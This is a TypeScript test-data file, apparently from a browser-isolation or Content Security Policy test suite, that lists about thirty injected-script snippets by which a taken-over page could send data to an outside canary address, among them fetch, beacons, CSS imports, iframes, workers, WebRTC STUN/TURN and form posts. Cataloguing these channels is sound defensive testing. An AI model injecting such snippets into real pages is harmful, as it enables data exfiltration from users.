// The ways by which a page could tell somebody outside something, each as a script that is run in the page, as a page taken
// over by somebody would. `§` stands for the address of the canary with the name of the way, `#` for its host and port.

export type Way = {
  name: string;
  code: string;
  /** It takes the page away or opens another one: tried by itself, on the app's page loaded anew. */
  leaves?: true;
  /** What the canary notes when it is not the way's name. */
  noted?: string;
  /** It leaves by an address of this machine other than loopback, where there is one. */
  outer?: true;
};

const put = (tag: string, members: string, parent = 'body') =>
  `{const e=document.createElement('${tag}');Object.assign(e,${members});document.${parent}.append(e)}`;
const styled = (css: string) =>
  `{const s=document.createElement('style');s.nonce=document.querySelector('[nonce]')?.nonce??'';s.textContent=${JSON.stringify(css)};document.head.append(s);` +
  `const e=document.createElement('p');e.className='canary';e.textContent='字';document.body.append(e)}`;

export const waysOut: readonly Way[] = [
  { name: 'fetch', code: "fetch('§').catch(()=>0)" },
  { name: 'xhr', code: "{const x=new XMLHttpRequest;x.open('GET','§');x.send()}" },
  { name: 'websocket', code: "new WebSocket('ws://#/websocket')" },
  { name: 'eventsource', code: "new EventSource('§')" },
  { name: 'beacon', code: "navigator.sendBeacon('§','a')" },
  { name: 'image', code: "new Image().src='§'" },
  { name: 'script', code: put('script', "{src:'§'}") },
  { name: 'import', code: "import('§').catch(()=>0)" },
  { name: 'stylesheet', code: put('link', "{rel:'stylesheet',href:'§'}", 'head') },
  { name: 'css-import', code: styled('@import "§";') },
  { name: 'css-image', code: styled('.canary{background:url(§)}') },
  { name: 'font', code: "new FontFace('c','url(§)').load().catch(()=>0)" },
  { name: 'frame', code: put('iframe', "{src:'§'}") },
  { name: 'frame-in-frame', code: put('iframe', '{srcdoc:\'<img src="§">\'}') },
  { name: 'object', code: put('object', "{data:'§'}") },
  { name: 'embed', code: put('embed', "{src:'§'}") },
  { name: 'media', code: put('video', "{src:'§',autoplay:true,muted:true}") },
  {
    name: 'track',
    code: "{const v=document.createElement('video');v.crossOrigin='anonymous';v.src='data:video/mp4,';const t=document.createElement('track');t.default=true;t.src='§';t.track.mode='showing';v.append(t);document.body.append(v)}",
  },
  {
    name: 'worker',
    code: 'try{new Worker(URL.createObjectURL(new Blob(["fetch(\'§\')"])))}catch{}',
  },
  { name: 'prefetch', code: put('link', "{rel:'prefetch',href:'§'}", 'head') },
  { name: 'preload', code: put('link', "{rel:'preload',as:'image',href:'§'}", 'head') },
  {
    name: 'ping',
    code: "{const a=document.createElement('a');a.href='#x';a.ping='§';document.body.append(a);a.click()}",
  },
  {
    name: 'webrtc',
    noted: 'datagram',
    outer: true,
    code: "{const p=new RTCPeerConnection({iceServers:[{urls:'stun:#'}]});p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))}",
  },
  {
    name: 'webrtc-tcp',
    noted: 'bare connection',
    code: "{const p=new RTCPeerConnection({iceServers:[{urls:'turn:#?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))}",
  },
  { name: 'window-open', code: "window.open('§')", leaves: true },
  {
    name: 'link-new-window',
    code: "{const a=document.createElement('a');a.href='§';a.target='_blank';document.body.append(a);a.click()}",
    leaves: true,
  },
  {
    name: 'form',
    code: "{const f=document.createElement('form');f.action='§';f.method='post';document.body.append(f);f.submit()}",
    leaves: true,
  },
  {
    name: 'link',
    code: "{const a=document.createElement('a');a.href='§';document.body.append(a);a.click()}",
    leaves: true,
  },
  { name: 'location', code: "location.href='§'", leaves: true },
  {
    name: 'meta-refresh',
    code: "{const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=§';document.head.append(m)}",
    leaves: true,
  },
];
